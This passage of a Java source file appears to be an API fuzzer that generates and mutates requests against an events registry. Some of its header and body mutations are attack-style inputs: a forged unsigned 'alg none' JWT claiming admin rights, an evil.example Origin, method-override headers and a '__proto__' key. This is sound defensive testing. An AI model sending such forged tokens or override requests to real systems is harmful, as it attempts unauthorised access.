            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_' || c == '.' || c == '~') {
                out.append((char) c);
            } else {
                out.append('%').append(String.format("%02X", c));
            }
        }
        return out.toString();
    }

    private String encodeValue(String value) {
        if (chance(0.05)) {
            return encode(value).replace("%20", "+");
        }
        if (chance(0.05)) {
            // characters a query may carry unencoded
            return encode(value).replace("%2C", ",").replace("%3A", ":").replace("%40", "@").replace("%2F", "/")
                    .replace("%27", "'").replace("%28", "(").replace("%29", ")").replace("%2A", "*").replace("%21", "!");
        }
        return encode(value);
    }

    // ---- headers -------------------------------------------------------------------------------------------------

    private void authorization(List<Map.Entry<String, String>> headers) {
        double r = random.nextDouble();
        if (r < 0.2) {
            return;
        }
        String value;
        if (r < 0.8) {
            value = "Bearer " + targets.adminToken;
        } else if (r < 0.87) {
            value = "Bearer " + targets.staffToken;
        } else if (r < 0.93) {
            value = "Bearer " + targets.partnerToken;
        } else {
            value = pick(List.of("Bearer ", "Bearer", "bearer " + targets.adminToken, "BEARER " + targets.adminToken,
                    "Basic dXNlcjpwYXNz", "Bearer " + targets.adminToken + " ", "Bearer  " + targets.adminToken,
                    "Bearer " + "x".repeat(5000), "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4Iiwicm9sZXMiOlsicmVnaXN0cnktYWRtaW4iXX0.",
                    "Bearer a.b.c", "Bearer ..", "Bearer reg_" + "A".repeat(40), "Token abc", "Bearer " + targets.adminToken + "," + targets.adminToken,
                    "Bearer é", "", "Bearer eyJhbGciOiJSUzI1NiJ9.e30.AAAA", "Bearer eyJ.eyJ.eyJ", "Negotiate abc"));
        }
        headers.add(header("Authorization", value));
        if (chance(0.02)) {
            headers.add(header("Authorization", "Bearer " + targets.partnerToken));
        }
    }

    private String entityTag() {
        if (!targets.etags.isEmpty() && chance(0.4)) {
            String real = pick(targets.etags);
            return switch (random.nextInt(5)) {
                case 0 -> real;
                case 1 -> "W/" + real;
                case 2 -> real.replace("\"", "");
                case 3 -> real + ", \"other\"";
                default -> real.replaceAll("-(\\d+)\"$", "-99999999999999999999\"");
            };
        }
        return pick(ENTITY_TAGS);
    }

    private void miscellaneousHeaders(List<Map.Entry<String, String>> headers) {
        if (chance(0.04)) {
            headers.add(header("X-Request-Id", pick(List.of("", "x".repeat(2000), "é", "a b", "req-" + (++serial)))));
        }
        if (chance(0.03)) {
            headers.add(header("Origin", pick(List.of("https://evil.example", "null", "", "http://localhost"))));
        }
        if (chance(0.02)) {
            headers.add(header("X-HTTP-Method-Override", pick(List.of("DELETE", "PUT", "PATCH"))));
        }
        if (chance(0.02)) {
            headers.add(header("X-Forwarded-For", pick(List.of("", "1.2.3.4", "not-an-ip", "1.2.3.4, 5.6.7.8", "::1"))));
        }
        if (chance(0.03)) {
            headers.add(header("Accept-Language", pick(List.of("sr-Latn", "*", "", "x".repeat(500)))));
        }
        if (chance(0.02)) {
            headers.add(header("Accept-Charset", pick(List.of("ebcdic", "utf-16", "*;q=0"))));
        }
        if (chance(0.02)) {
            headers.add(header("Content-Encoding", pick(List.of("gzip", "br", "identity", "x"))));
        }
        if (chance(0.01)) {
            headers.add(header("Range", pick(List.of("bytes=0-10", "bytes=-1", "junk"))));
        }
    }

    // ---- bodies --------------------------------------------------------------------------------------------------

    private byte[] body(ApiOperation op) {
        double r = random.nextDouble();
        if (r < 0.04) {
            return null;
        }
        if (r < 0.08) {
            return new byte[0];
        }
        if (r < 0.16) {
            return pick(JUNK_BODIES);
        }
        JsonNode tree = valid(op);
        int mutations = chance(0.3) ? 0 : 1 + random.nextInt(3);
        for (int i = 0; i < mutations; i++) {
            tree = mutate(tree, op);
        }
        if (chance(0.15)) {
            return textMutation(tree);
        }
        return write(tree);
    }

    /** A body the schema accepts, aimed at the real records. */
    public JsonNode valid(ApiOperation op) {
        JsonNode schema = op.bodySchema();
        if (schema.path("type").asText().equals("array")) {
            ArrayNode array = NODES.arrayNode();
            int items = chance(0.8) ? 1 : chance(0.5) ? 0 : 2;
            for (int i = 0; i < items; i++) {
                array.add(object(schema.path("items"), 0));
            }
            return array;
        }
        return object(schema, 0);
    }

    private ObjectNode object(JsonNode schema, int depth) {
        ObjectNode object = NODES.objectNode();
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        for (Iterator<Map.Entry<String, JsonNode>> fields = schema.path("properties").fields(); fields.hasNext(); ) {
            Map.Entry<String, JsonNode> field = fields.next();
            String name = field.getKey();
            if (name.equals("empty")) {
                continue; // a getter Jackson documents, not a field anyone sends
            }
            boolean wanted = required.contains(name) || (chance(0.5) && !(name.equals("slug") && chance(0.8))
                    && !(name.equals("parentEvent") && chance(0.9)) && !(name.equals("displayName") && chance(0.7)));
            if (wanted && depth < 4) {
                object.set(name, value(name, field.getValue(), depth + 1));
            }
        }
        return object;
    }

    private JsonNode value(String name, JsonNode schema, int depth) {
        String tag = "g" + Long.toString(++serial, 36) + Integer.toString(random.nextInt(1_000_000), 36);
        switch (name) {
            case "title":
                return text("Generated " + tag);
            case "name":
                return text("generated " + tag);
            case "slug":
                return text("gen-" + tag);
            case "topics": {
                ArrayNode topics = NODES.arrayNode();
                topics.add("generated");
                return topics;
            }
            case "startsAt":
                return text("2031-05-10T10:00:00+02:00");
            case "endsAt":
                return text("2031-05-10T12:00:00+02:00");
            case "expiresAt":
                return text("2031-01-01T00:00:00Z");
            case "timeZone":
                return text("Europe/Belgrade");
            case "speaker":
                return text(pick(targets.speakerRefs()));
            case "parentEvent":
                return text(targets.eventId);
            case "authors": {
                ArrayNode authors = NODES.arrayNode();
                authors.add(pick(targets.speakerRefs()));
                return authors;
            }
            case "relatedEvents": {
                ArrayNode events = NODES.arrayNode();
                events.add(pick(List.of(targets.eventId, targets.eventSlug)));
                return events;
            }
            case "email":
                return text("gen-" + tag + "@example.org");
            case "profiles[]":
                return text("https://example.org/people/" + tag);
            case "order":
                return IntNode.valueOf(random.nextInt(10));
            case "role":
                if (schema.has("enum")) {
                    List<String> roles = new ArrayList<>();
                    schema.path("enum").forEach(v -> roles.add(v.asText()));
                    // tokens made by the generator are partner tokens: an admin token would only widen what junk can do
                    return text(roles.contains("PARTNER") ? "PARTNER" : pick(roles));
                }
                break;
            default:
                break;
        }
        if (schema.has("enum")) {
            List<String> values = new ArrayList<>();
            schema.path("enum").forEach(v -> values.add(v.asText()));
            return text(pick(values));
        }
        if (schema.has("anyOf")) {
            for (JsonNode option : schema.path("anyOf")) {
                if (!option.path("type").asText().equals("null")) {
                    return value(name, option, depth);
                }
            }
        }
        String type = type(schema);
        switch (type) {
            case "object":
                return object(schema, depth);
            case "array": {
                ArrayNode array = NODES.arrayNode();
                int items = 1 + random.nextInt(2);
                for (int i = 0; i < items; i++) {
                    array.add(value(name + "[]", schema.path("items"), depth + 1));
                }
                return array;
            }
            case "integer":
                if (schema.path("examples").isArray() && !schema.path("examples").isEmpty()) {
                    return schema.path("examples").get(0);
                }
                return IntNode.valueOf(schema.path("minimum").asInt(0));
            case "number":
                return IntNode.valueOf(1);
            case "boolean":
                return BooleanNode.valueOf(random.nextBoolean());
            default:
                JsonNode examples = schema.path("examples");
                if (examples.isArray() && !examples.isEmpty() && examples.get(0).isTextual()) {
                    return examples.get(0);
                }
                if (name.toLowerCase().endsWith("url") || name.equals("website")) {
                    return text("https://example.org/" + tag);
                }
                int max = schema.path("maxLength").asInt(200);
                String text = "generated " + tag;
                return text(text.length() > max ? text.substring(0, max) : text);
        }
    }

    private static String type(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode t : type) {
                if (!t.asText().equals("null")) {
                    return t.asText();
                }
            }
        }
        return type.asText("string");
    }

    // ---- tree mutations ------------------------------------------------------------------------------------------

    /** A place in the tree: the container and the key (object) or index (array) of a value in it. */
    private record Slot(ContainerNode<?> parent, String key, int index) {

        JsonNode get() {
            return key != null ? parent.get(key) : parent.get(index);
        }

        void set(JsonNode value) {
            if (key != null) {
                ((ObjectNode) parent).set(key, value);
            } else {
                ((ArrayNode) parent).set(index, value);
            }
        }

        void remove() {
            if (key != null) {
                ((ObjectNode) parent).remove(key);
            } else {
                ((ArrayNode) parent).remove(index);
            }
        }

        String name() {
            return key != null ? key : "[" + index + "]";
        }
    }

    private JsonNode mutate(JsonNode root, ApiOperation op) {
        List<Slot> slots = new ArrayList<>();
        List<ContainerNode<?>> containers = new ArrayList<>();
        collect(root, slots, containers);
        int kind = random.nextInt(21);
        if (slots.isEmpty() || kind == 16) {
            return replaceRoot(root);
        }
        Slot slot = pick(slots);
        switch (kind) {
            case 17, 18 -> {
                // a string exactly as long as the schema allows, of characters that escaping or sanitising makes longer
                List<Slot> bounded = slots.stream().filter(sl -> maxLength(op.bodySchema(), sl.name(), 0) > 0).toList();
                if (!bounded.isEmpty()) {
                    slot = pick(bounded);
                }
                int max = maxLength(op.bodySchema(), slot.name(), 0);
                if (max > 0) {
                    String unit = pick(List.of("<", "&", "\"", "'", "😀", "é", ">", "\u00A0"));
                    slot.set(text(unit.repeat(Math.max(1, max / unit.length()))));
                } else {
                    slot.set(text(huge()));
                }
            }
            case 19, 20 -> {
                // a null (or nested nulls) among an array's items
                List<ArrayNode> arrays = new ArrayList<>();
                containers.forEach(c -> {
                    if (c instanceof ArrayNode a) {
                        arrays.add(a);
                    }
                });
                if (arrays.isEmpty()) {
                    slot.set(NODES.arrayNode().add(slot.get() == null ? NullNode.getInstance() : slot.get()).addNull());
                } else {
                    ArrayNode array = pick(arrays);
                    if (chance(0.5) || array.isEmpty()) {
                        array.addNull();
                    } else {
                        array.set(random.nextInt(array.size()), chance(0.5) ? NullNode.getInstance() : NODES.arrayNode().addNull());
                    }
                }
            }
            case 0 -> slot.remove();
            case 1 -> slot.set(NullNode.getInstance());
            case 2 -> slot.set(wrongType(slot.get()));
            case 3 -> slot.set(text(pick(ODD_STRINGS)));
            case 4 -> slot.set(text(huge()));
            case 5 -> slot.set(oddNumber());
            case 6 -> {
                ContainerNode<?> container = pick(containers);
                if (container instanceof ObjectNode object) {
                    object.set(pick(List.of("unknownField", "id", "createdAt", "version", "__proto__", "", "x".repeat(1000),
                            "TITLE", "Title", "empty", "speakers", "record", "@type", "é")), randomValue());
                } else {
                    ((ArrayNode) container).add(randomValue());
                }
            }
            case 7 -> {
                ArrayNode array = NODES.arrayNode();
                int n = pick(List.of(21, 51, 1000, 20_000));
                JsonNode current = slot.get();
                JsonNode item = chance(0.5) || current == null || write(current).length > 1000 ? text("t") : current;
                for (int i = 0; i < n; i++) {
                    array.add(item.deepCopy());
                }
                slot.set(array);
            }
            case 8 -> {
                JsonNode value = slot.get();
                int depth = pick(List.of(2, 5, 31, 33, 40));
                for (int i = 0; i < depth; i++) {
                    ArrayNode wrap = NODES.arrayNode();
                    wrap.add(value);
                    value = wrap;
                }
                slot.set(value);
            }
            case 9, 10, 11, 12, 13, 14 -> slot.set(semanticOdd(slot.name(), slot.get()));
            default -> {
                if (root instanceof ObjectNode object && object.has("startsAt")) {
                    object.put("endsAt", "2031-05-10T09:59:59+02:00");
                } else {
                    slot.set(refForm());
                }
            }
        }
        return root;
    }

    /** The maxLength the schema gives a property of this name (searching nested objects and arrays), or 0. */
    private static int maxLength(JsonNode schema, String name, int depth) {
        if (schema == null || depth > 6) {
            return 0;
        }
        JsonNode property = schema.path("properties").path(name);
        if (property.has("maxLength")) {
            return property.path("maxLength").asInt();
        }
        if (property.path("items").has("maxLength")) {
            return property.path("items").path("maxLength").asInt();
        }
        for (JsonNode child : schema.path("properties")) {
            int found = maxLength(child, name, depth + 1);
            if (found > 0) {
                return found;
            }
        }
        return schema.has("items") ? maxLength(schema.path("items"), name, depth + 1) : 0;
    }

    private void collect(JsonNode node, List<Slot> slots, List<ContainerNode<?>> containers) {
        if (node instanceof ObjectNode object) {
            containers.add(object);
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            for (String name : names) {
                slots.add(new Slot(object, name, -1));
                collect(object.get(name), slots, containers);
            }
        } else if (node instanceof ArrayNode array) {
            containers.add(array);
            for (int i = 0; i < Math.min(array.size(), 5); i++) {
                slots.add(new Slot(array, null, i));
                collect(array.get(i), slots, containers);
            }
        }
    }

    private JsonNode replaceRoot(JsonNode root) {
        return pick(List.<Supplier<JsonNode>>of(
                () -> NODES.arrayNode().add(root),
                () -> text("x"),
                () -> IntNode.valueOf(1),
                NullNode::getInstance,
                () -> root.isArray() ? NODES.objectNode() : NODES.arrayNode(),
                () -> BooleanNode.TRUE)).get();
    }

    private JsonNode wrongType(JsonNode value) {
        if (value == null || value.isTextual()) {
            return pick(List.<Supplier<JsonNode>>of(() -> IntNode.valueOf(12), () -> BooleanNode.TRUE, () -> NODES.arrayNode().add("x"),
                    () -> NODES.objectNode().put("value", "x"), () -> DoubleNode.valueOf(1.5))).get();
        }
        if (value.isNumber()) {
            return pick(List.<Supplier<JsonNode>>of(() -> text("1"), () -> text("one"), () -> BooleanNode.FALSE,
                    () -> NODES.arrayNode().add(1), () -> NODES.objectNode())).get();
        }
        if (value.isArray()) {
            return pick(List.<Supplier<JsonNode>>of(() -> text("a,b"), () -> IntNode.valueOf(1), () -> NODES.objectNode().put("0", "x"),
                    () -> NODES.arrayNode().add(NODES.arrayNode()))).get();
        }
        if (value.isObject()) {
            return pick(List.<Supplier<JsonNode>>of(() -> text("object"), () -> NODES.arrayNode().add(value), () -> IntNode.valueOf(0))).get();
        }
        return text(value.asText());
    }

    private JsonNode randomValue() {
        return pick(List.<Supplier<JsonNode>>of(() -> text("x"), () -> IntNode.valueOf(1), NullNode::getInstance, () -> BooleanNode.TRUE,
                () -> NODES.arrayNode(), () -> NODES.objectNode(), () -> text(huge()))).get();
    }

    private JsonNode oddNumber() {
        return pick(List.<Supplier<JsonNode>>of(
                () -> IntNode.valueOf(0), () -> IntNode.valueOf(-1), () -> IntNode.valueOf(Integer.MAX_VALUE),
                () -> IntNode.valueOf(Integer.MIN_VALUE), () -> LongNode.valueOf(2_147_483_648L), () -> LongNode.valueOf(Long.MAX_VALUE),
                () -> BigIntegerNode.valueOf(new BigInteger("9223372036854775808")),
                () -> BigIntegerNode.valueOf(new BigInteger("9".repeat(39))), () -> DoubleNode.valueOf(1.5),
                () -> DoubleNode.valueOf(-0.0), () -> DoubleNode.valueOf(1e308), () -> DecimalNode.valueOf(new BigDecimal("1E+400")),
                () -> DoubleNode.valueOf(Double.MIN_VALUE), () -> IntNode.valueOf(10_001), () -> DecimalNode.valueOf(new BigDecimal("1.0")))).get();
    }

    private String huge() {
        int length = pick(List.of(301, 2_001, 20_001, 100_001, 600_000));
        String unit = pick(List.of("a", "é", "😀", "<p>", " ", "\u0000", "Ω", "<", "&"));
        return unit.repeat(Math.max(1, length / unit.length()));
    }

    private JsonNode semanticOdd(String name, JsonNode current) {
        String lower = name.toLowerCase();
        List<String> pool;
        if (lower.endsWith("at") && !lower.equals("format")) {
            pool = DATE_TIMES;
        } else if (lower.equals("timezone")) {
            pool = TIME_ZONES;
        } else if (lower.equals("language")) {
            pool = LANGUAGES;
        } else if (lower.equals("country")) {
            pool = COUNTRIES;
        } else if (lower.endsWith("url") || lower.equals("website") || lower.startsWith("[")) {
            pool = URLS;
        } else if (lower.equals("orcid")) {
            pool = ORCIDS;
        } else if (lower.equals("isbn")) {
            pool = ISBNS;
        } else if (lower.equals("doi")) {
            pool = DOIS;
        } else if (lower.equals("publishedon")) {
            pool = PUBLISHED_ON;
        } else if (lower.equals("email")) {
            pool = EMAILS;
        } else if (lower.equals("phone")) {
            pool = PHONES;
        } else if (lower.equals("slug") || lower.equals("speaker") || lower.equals("parentevent")) {
            pool = new ArrayList<>(SLUGS);
            pool.addAll(List.of(targets.eventSlug, targets.speakerSlug, targets.publicationSlug, targets.draftEventId));
        } else if (lower.equals("order")) {
            return oddNumber();
        } else if (current != null && current.isTextual() && enumValues.contains(current.asText())) {
            pool = List.of(current.asText().toLowerCase(), "", "ROOT", current.asText() + " ", pick(enumValues), "X".repeat(300));
        } else {
            pool = ODD_STRINGS;
        }
        return text(pick(pool));
    }

    private JsonNode refForm() {
        return pick(List.<Supplier<JsonNode>>of(
                () -> NODES.objectNode().put("id", targets.speakerId),
                () -> NODES.objectNode().put("slug", targets.speakerSlug),
                () -> NODES.objectNode().put("id", 5),
                () -> NODES.objectNode(),
                () -> NODES.objectNode().put("id", targets.eventId).put("slug", targets.speakerSlug).put("extra", 1),
                () -> NODES.arrayNode().add(targets.speakerId))).get();
    }

    // ---- text mutations ------------------------------------------------------------------------------------------

    private byte[] textMutation(JsonNode tree) {
        String text = new String(write(tree), StandardCharsets.UTF_8);
        switch (random.nextInt(12)) {
            case 0: {
                if (tree instanceof ObjectNode object && object.size() > 0) {
                    String field = object.fieldNames().next();
                    // the first field twice: a duplicate key
                    return bytes("{\"" + field + "\":" + new String(write(randomValue()), StandardCharsets.UTF_8) + "," + text.substring(1));
                }
                return bytes(text + text);
            }
            case 1: {
                if (tree instanceof ObjectNode object) {
                    List<String> names = new ArrayList<>();
                    object.fieldNames().forEachRemaining(names::add);
                    String field = names.isEmpty() ? "title" : pick(names);
                    ObjectNode rest = object.deepCopy();
                    rest.remove(field);
                    String restText = new String(write(rest), StandardCharsets.UTF_8);
                    String raw = pick(RAW_JSON_VALUES);
                    return bytes("{\"" + field + "\":" + raw + (rest.isEmpty() ? "}" : "," + restText.substring(1)));
                }
                return bytes(text + pick(RAW_JSON_VALUES));
            }
            case 2:
                return bytes(text + pick(List.of("x", "}", " {}", ",", "\u0000", "[]", "\n\n{}")));
            case 3:
                return bytes(text.endsWith("}") ? text.substring(0, text.length() - 1) + ",}" : text + ",");
            case 4:
                return bytes(pick(List.of("/*c*/", "// c\n", "\uFEFF", " \n\t ")) + text);
            case 5:
                return bytes(text.replace('"', '\''));
            case 6:
                return bytes(text.substring(0, random.nextInt(Math.max(1, text.length()))));
            case 7:
                return text.getBytes(pick(List.of(StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)));
            case 8:
                return text.getBytes(StandardCharsets.ISO_8859_1);
            case 9: {
                int depth = pick(List.of(33, 1000, 100_000));
                return bytes("[".repeat(depth) + text + "]".repeat(depth));
            }
            case 10: {
                // invalid UTF-8 inside a string value
                int quote = text.indexOf(":\"");
                byte[] junk = pick(List.of(new byte[]{(byte) 0xC3, (byte) 0x28}, new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xC0, (byte) 0xAF},
                        new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[]{(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                        new byte[]{(byte) 0xE2, (byte) 0x82}));
                if (quote < 0) {
                    return concat(bytes(text), junk);
                }
                return concat(bytes(text.substring(0, quote + 2)), junk, bytes(text.substring(quote + 2)));
            }
            default: {
                // a raw control character inside a string value (not allowed unescaped in JSON)
                int quote = text.indexOf(":\"");
                return quote < 0 ? bytes(text + "\u0001") : bytes(text.substring(0, quote + 2) + pick(List.of("\u0001", "\t", "\n", "\u001f"))
                        + text.substring(quote + 2));
            }
        }
    }

    // ---- helpers -------------------------------------------------------------------------------------------------

    private boolean chance(double p) {
        return random.nextDouble() < p;
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static TextNode text(String value) {
        return TextNode.valueOf(value);
    }

    static Map.Entry<String, String> header(String name, String value) {
        return new AbstractMap.SimpleImmutableEntry<>(name, value);
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    static byte[] write(JsonNode tree) {
        try {
            return JSON.writeValueAsBytes(tree);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
